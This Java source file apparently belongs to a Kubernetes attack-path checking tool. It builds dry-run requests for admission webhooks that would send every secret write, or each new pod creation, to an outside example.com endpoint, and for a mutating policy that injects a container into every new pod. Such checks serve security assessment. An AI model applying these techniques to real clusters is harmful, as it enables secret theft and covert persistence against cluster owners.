package dev.postern.attack.call;

import com.google.common.base.Ascii;
import com.google.common.collect.ImmutableList;
import com.google.common.collect.ImmutableMap;
import java.util.Map;
import java.util.Optional;

/** WEBHOOK_MUTATE and WEBHOOK_READ: a webhook for whatever is of interest, or a policy that changes new pods. */
final class AdmissionHooks implements CallBuilder {
    private static final String GROUP = "admissionregistration.k8s.io";
    private static final String NAME = PodSpecs.NAME + ".example.com";

    private final boolean changing;

    AdmissionHooks(boolean changing) {
        this.changing = changing;
    }

    @Override
    public ImmutableList<ApiCall> calls(Attempt attempt) {
        Optional<ApiCall> mutating = webhook(attempt, "MutatingWebhookConfiguration");
        if (mutating.isPresent()) {
            return ImmutableList.of(mutating.get());
        }
        if (changing) {
            return Attempt.all(
                    create(attempt, "MutatingAdmissionPolicy", "mutatingadmissionpolicies", policy()),
                    create(
                            attempt,
                            "MutatingAdmissionPolicyBinding",
                            "mutatingadmissionpolicybindings",
                            ImmutableMap.of("policyName", NAME)));
        }
        return webhook(attempt, "ValidatingWebhookConfiguration")
                .map(ImmutableList::of)
                .orElse(ImmutableList.of());
    }

    private Optional<ApiCall> webhook(Attempt attempt, String kind) {
        String resource = Ascii.toLowerCase(kind) + "s";
        return attempt.creator(GROUP, resource, kind, "", any -> true).map(creator -> {
            ImmutableMap<String, Object> webhook = ImmutableMap.<String, Object>builder()
                    .put("admissionReviewVersions", ImmutableList.of("v1"))
                    .put("clientConfig", ImmutableMap.of("url", "https://" + NAME + "/"))
                    .put("failurePolicy", "Ignore")
                    .put("name", NAME)
                    .put("rules", ImmutableList.of(writesOf(changing ? "pods" : "secrets")))
                    .put("sideEffects", "None")
                    .buildOrThrow();
            return creator.dryRun(
                    ApiPath.of(GROUP, "v1", "", resource),
                    ImmutableMap.of(
                            "apiVersion",
                            GROUP + "/v1",
                            "kind",
                            kind,
                            "metadata",
                            PodSpecs.metadata(""),
                            "webhooks",
                            ImmutableList.of(webhook)));
        });
    }

    private static Optional<ApiCall> create(Attempt attempt, String kind, String resource, Map<String, Object> spec) {
        return attempt.creatorOf(GROUP, resource, "", NAME)
                .map(creator -> creator.dryRun(
                        ApiPath.of(GROUP, "v1", "", resource),
                        ImmutableMap.of(
                                "apiVersion",
                                GROUP + "/v1",
                                "kind",
                                kind,
                                "metadata",
                                ImmutableMap.of("name", NAME),
                                "spec",
                                spec)));
    }

    /** Puts a container into each pod that is created. */
    private static ImmutableMap<String, Object> policy() {
        String container = "Object{spec: Object.spec{containers: [Object.spec.containers{name: \"" + PodSpecs.NAME
                + "\", image: \"" + PodSpecs.IMAGE + "\"}]}}";
        return ImmutableMap.of(
                "failurePolicy",
                "Ignore",
                "matchConstraints",
                ImmutableMap.of("resourceRules", ImmutableList.of(writesOf("pods"))),
                "mutations",
                ImmutableList.of(ImmutableMap.of(
                        "patchType",
                        "ApplyConfiguration",
                        "applyConfiguration",
                        ImmutableMap.of("expression", container))),
                "reinvocationPolicy",
                "Never");
    }

    private static ImmutableMap<String, Object> writesOf(String resource) {
        return ImmutableMap.of(
                "apiGroups",
                ImmutableList.of(""),
                "apiVersions",
                ImmutableList.of("v1"),
                "operations",
                resource.equals("pods") ? ImmutableList.of("CREATE") : ImmutableList.of("CREATE", "UPDATE", "DELETE"),
                "resources",
                ImmutableList.of(resource));
    }
}
